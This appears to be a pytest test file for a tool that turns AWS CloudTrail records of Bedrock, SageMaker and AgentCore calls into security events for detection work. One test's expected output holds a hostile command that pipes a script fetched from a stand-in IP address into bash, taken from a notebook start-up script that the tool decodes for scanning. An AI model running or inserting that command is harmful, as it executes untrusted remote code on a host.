"""CloudTrail: goldens, what calls mean, who calls, and records that are not what they should be.

The inputs have the shapes of the AWS documentation (record contents, userIdentity, Bedrock data events, AgentCore
gateway events) with invented accounts and people:
https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-record-contents.html
https://docs.aws.amazon.com/bedrock/latest/userguide/logging-using-cloudtrail.html
https://docs.aws.amazon.com/bedrock-agentcore/latest/devguide/understanding-gateway-cloudtrail-log-entries.html
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from normalized import TIME_READ, all_events, cases, normalized, records
from ocsf import ocsf_problems as problems_of

from tracehound.errors import RecordError
from tracehound.event import JOIN, TEXTS, complete
from tracehound.normalizers import registry
from tracehound.record import Record

NORMALIZER = registry().by_name["aws_cloudtrail"]
CASES = cases("aws_cloudtrail")
RECORDS = {path.stem: records(path) for path in CASES}
INVOKE = RECORDS["bedrock_invoke"][0]


def one(data: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """The event of a record with fields replaced; ``None`` takes a field away."""
    changed = {key: value for key, value in (data | changes).items() if value is not None}
    events = normalized(NORMALIZER, changed)
    assert len(events) == 1
    return events[0]


@pytest.mark.parametrize("path", CASES, ids=lambda path: path.stem)
def test_events_are_right(path: Path, ocsf_problems: Callable[[Any], list[str]]) -> None:
    for event in all_events(NORMALIZER, path):
        event.pop(TEXTS, None)
        assert ocsf_problems(event) == []


@pytest.mark.parametrize("data", [r for case in RECORDS.values() for r in case if "eventSource" in r])
def test_nothing_of_a_well_formed_record_is_left_over(data: dict[str, Any]) -> None:
    left = one(data).get("unmapped", {})
    allowed = {"vpcEndpointAccountId", "userIdentity", "additionalEventData", "tlsDetails", "readOnly"}
    assert set(left) <= allowed


OPERATIONS = {
    ("bedrock", "InvokeModel"): (6003, 99, "inference"),
    ("bedrock", "Converse"): (6003, 99, "inference"),
    ("bedrock", "InvokeInlineAgent"): (6003, 99, "inference"),
    ("sagemaker", "InvokeEndpointAsync"): (6003, 99, "inference"),
    ("lambda", "Invoke"): (6003, 99, "config_change"),
    ("bedrock", "Retrieve"): (6003, 99, "retrieval"),
    ("bedrock", "CreateGuardrail"): (6003, 1, "config_change"),
    ("bedrock", "PutModelInvocationLoggingConfiguration"): (6003, 1, "config_change"),
    ("bedrock", "RegisterMarketplaceModelEndpoint"): (6003, 1, "config_change"),
    ("bedrock", "BatchDeleteEvaluationJob"): (6003, 4, "config_change"),
    ("bedrock", "DisassociateAgentKnowledgeBase"): (6003, 4, "config_change"),
    ("sagemaker", "StopNotebookInstance"): (6003, 3, "config_change"),
    ("sagemaker", "UpdateEndpoint"): (6003, 3, "config_change"),
    ("sts", "AssumeRole"): (6003, 99, "config_change"),
    ("unheard-of", "FrobnicateThing"): (6003, 99, "config_change"),
    ("signin", "ConsoleLogin"): (3002, 1, "login"),
}


@pytest.mark.parametrize(
    ("call", "expected"), OPERATIONS.items(), ids=[":".join(call) for call in OPERATIONS]
)
def test_what_a_call_means(call: tuple[str, str], expected: tuple[int, int, str]) -> None:
    source, name = call
    event = one(INVOKE, eventSource=f"{source}.amazonaws.com", eventName=name, readOnly=False)
    assert (event["class_uid"], event["activity_id"], event["ai"]["activity"]) == expected


@pytest.mark.parametrize(
    "name", ["ListGuardrails", "GetAgent", "DescribeEndpoint", "BatchGetThings", "HeadBucket"]
)
@pytest.mark.parametrize("read_only", [True, "true", None])
def test_reads(name: str, read_only: Any) -> None:
    event = one(INVOKE, eventName=name, readOnly=read_only)
    assert (event["activity_id"], event["ai"]["activity"]) == (2, "access")


OUTCOMES: dict[str, tuple[dict[str, Any], tuple[int, str | None]]] = {
    "success": ({}, (1, None)),
    "denied": ({"errorCode": "AccessDenied", "errorMessage": "no"}, (2, "AccessDenied")),
    "a message alone": ({"errorMessage": "no"}, (2, None)),
    "an event that is no call": ({"eventType": "AwsServiceEvent"}, (0, None)),
    "http status": ({"responseElements": {"statusCode": 403}}, (2, "403")),
    "an error in the answer": (
        {"responseElements": {"statusCode": 200, "body": {"error": {}, "x": 1}}},
        (1, "200"),
    ),
}


@pytest.mark.parametrize(("changes", "expected"), OUTCOMES.values(), ids=OUTCOMES.keys())
def test_outcome(changes: dict[str, Any], expected: tuple[int, str | None]) -> None:
    event = one(INVOKE, **changes)
    assert (event["status_id"], event.get("status_code")) == expected


MODELS = {
    "anthropic.claude-3-haiku-20240307-v1:0": ("anthropic.claude-3-haiku-20240307-v1:0", "anthropic"),
    "us.meta.llama3-3-70b-instruct-v1:0": ("meta.llama3-3-70b-instruct-v1:0", "meta"),
    "us-gov.anthropic.claude-x": ("anthropic.claude-x", "anthropic"),
    "arn:aws:bedrock:us-east-1::foundation-model/cohere.command-r-v1:0": ("cohere.command-r-v1:0", "cohere"),
    "arn:aws:bedrock:us-east-1:444455556666:provisioned-model/abc123": ("abc123", None),
}


@pytest.mark.parametrize(("said", "expected"), MODELS.items())
def test_model(said: str, expected: tuple[str, str | None]) -> None:
    event = one(INVOKE, requestParameters={"modelId": said})
    assert (event["ai"]["model"]["name"], event["ai"]["model"].get("provider")) == expected
    assert event["resources"][0]["uid"] == said
    assert event["ai_model"]["name"] == expected[0]


def test_the_model_of_a_denied_call_without_parameters() -> None:
    arn = "arn:aws:bedrock:us-east-1::foundation-model/deepseek.r1-v1:0"
    user = "arn:aws:iam::444455556666:user/intern"
    message = f"User: {user} is not authorized to perform: bedrock:InvokeModel on resource: {arn} because"
    event = one(INVOKE, requestParameters=None, errorCode="AccessDenied", errorMessage=message)
    assert event["ai"]["model"] == {"name": "deepseek.r1-v1:0", "provider": "deepseek"}
    assert event["resources"][0]["uid"] == arn


def test_the_guardrail_of_a_call() -> None:
    assert one(RECORDS["bedrock_invoke"][1])["ai"]["guardrail"]["policy"] == "q7x2k9m4t1zb"


@pytest.mark.parametrize(
    ("said", "status"), [(True, "failure"), (False, "success"), (None, "unknown"), ([], "unknown")]
)
def test_outcome_of_a_gateway_tool(said: Any, status: str) -> None:
    data = copy.deepcopy(RECORDS["agentcore"][1])
    data["responseElements"]["body"]["result"]["isError"] = said
    tool = one(data)["ai"]["tool"]
    assert (tool["name"], tool["server"], tool["status"]) == ("CancelOrder", "OrdersTarget", status)


ADDRESSES = {
    "198.51.100.7": {"ip": "198.51.100.7"},
    "2001:DB8::7": {"ip": "2001:db8::7"},
    "config.amazonaws.com": {"domain": "config.amazonaws.com"},
    "AWS Internal": {"svc_name": "AWS Internal"},
    "035.249.253.232": {"svc_name": "035.249.253.232"},
}


@pytest.mark.parametrize(("said", "expected"), ADDRESSES.items())
def test_source_address(said: str, expected: dict[str, str]) -> None:
    assert one(INVOKE, sourceIPAddress=said)["src_endpoint"] == expected


def test_labels_say_what_the_parameters_are() -> None:
    labels = {
        event["api"]["operation"]: event["resources"][0].get("labels", [])
        for name in ("bedrock_control", "sagemaker")
        for event in (one(data) for data in RECORDS[name])
        if event.get("resources")
    }
    assert "loggingConfig.textDataDeliveryEnabled=false" in labels["PutModelInvocationLoggingConfiguration"]
    assert "contentPolicyConfig.filtersConfig.inputStrength=NONE" in labels["UpdateGuardrail"]
    assert "directInternetAccess=Enabled" in labels["CreateNotebookInstance"]
    assert "enableNetworkIsolation=false" in labels["CreateTrainingJob"]
    assert not [one for one in labels["CreateTrainingJob"] if one.startswith("vpcConfig")]
    owner = "dataSourceConfiguration.s3Configuration.bucketOwnerAccountId=777788889999"
    assert owner in labels["CreateDataSource"]


def test_flags_say_how_it_was_called() -> None:
    flags = [flag for data in RECORDS["bedrock_invoke"] for flag in one(data)["api"]["request"]["flags"]]
    assert {"inferenceRegion=eu-west-3", "callWithBearerToken=true", "tlsVersion=TLSv1.3"} <= set(flags)


def test_invocations_wait_for_the_log_of_their_content() -> None:
    event = one(INVOKE)
    kind, key, paths = event[JOIN][0]
    assert (kind, key) == ("offer", ("aws_request", INVOKE["requestID"]))
    assert ("src_endpoint",) in paths
    assert JOIN not in one(RECORDS["bedrock_control"][0])


def test_scripts_are_decoded_to_be_scanned() -> None:
    event = one(RECORDS["sagemaker"][1])
    assert event[TEXTS] == [
        ("tool_call", "#!/bin/bash\nset -e\ncurl -s http://203.0.113.66/agent.sh | bash\n", False)
    ]
    bad = one(RECORDS["sagemaker"][1], requestParameters={"onStart": [{"content": "%%%"}, 5, {"content": 7}]})
    assert bad[TEXTS] == [("tool_call", "%%%", False)]


def test_a_question_becomes_the_prompt_and_stands_nowhere_else() -> None:
    event = one(RECORDS["bedrock_agents"][2])
    question = "Which suppliers have unpaid invoices above ten thousand euros?"
    assert event["ai"]["prompt_text"] == question
    assert event.pop(TEXTS) == [("prompt", question, False)]
    del event["ai"]["prompt_text"]
    assert question not in str(event)


def test_a_session_token_is_not_kept() -> None:
    assume = next(data for data in RECORDS["identities"] if data["eventName"] == "AssumeRole")
    assert "IQoJb3JpZ2lu" not in str(one(assume))


def test_logins() -> None:
    good, failed = (one(data) for data in RECORDS["identities"][:2])
    assert (good["status_id"], good["is_mfa"], good["user"]["name"]) == (1, False, "Mira")
    assert (failed["status_id"], failed["status_detail"]) == (2, "No username found in supplied account")
    assert "name" not in failed["user"]


def test_the_same_event_in_two_files_has_one_id() -> None:
    one_id = normalized(NORMALIZER, INVOKE, 0)[0]["metadata"]["uid"]
    assert one_id == normalized(NORMALIZER, INVOKE, 77)[0]["metadata"]["uid"]
    assert one_id != one(INVOKE, eventID="other")["metadata"]["uid"]


def test_without_a_request_id_parameters_stay_unmapped() -> None:
    event = one(INVOKE, requestID=None)
    assert event["unmapped"]["requestParameters"] == INVOKE["requestParameters"]
    assert "request" not in event["api"]


def test_without_a_time_it_is_that_of_reading() -> None:
    event = one(INVOKE, eventTime="yesterday")
    assert event["time"] == TIME_READ
    assert event["unmapped"]["eventTime"] == "yesterday"


@pytest.mark.parametrize(
    "data",
    [
        {},
        {"eventSource": "bedrock.amazonaws.com"},
        {"schemaType": "ModelInvocationLog"},
        {"detail-type": "x"},
    ],
)
def test_records_of_others_do_not_match(data: dict[str, Any]) -> None:
    assert not NORMALIZER.matches(data)


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)
ALL = [data for case in RECORDS.values() for data in case]


@settings(deadline=None)
@given(data=st.sampled_from(ALL), at=st.data(), value=ANYTHING)
def test_any_value_anywhere_gives_an_event(data: dict[str, Any], at: st.DataObject, value: Any) -> None:
    changed = copy.deepcopy(data)
    holder = changed
    for _ in range(at.draw(st.integers(0, 3))):
        inner = [item for item in holder.values() if isinstance(item, dict) and item]
        if inner:
            holder = at.draw(st.sampled_from(inner))
    holder[at.draw(st.sampled_from(sorted(holder)))] = value
    record = Record(changed, time_read=TIME_READ, raw=b"{}")
    if NORMALIZER.matches(changed):
        try:
            events = complete(NORMALIZER.normalize(record), record, NORMALIZER, NORMALIZER.identify(changed))
        except RecordError:
            return
        for event in events:
            for key in (TEXTS, JOIN):
                event.pop(key, None)
        assert [problem for event in events for problem in problems_of(event)] == []
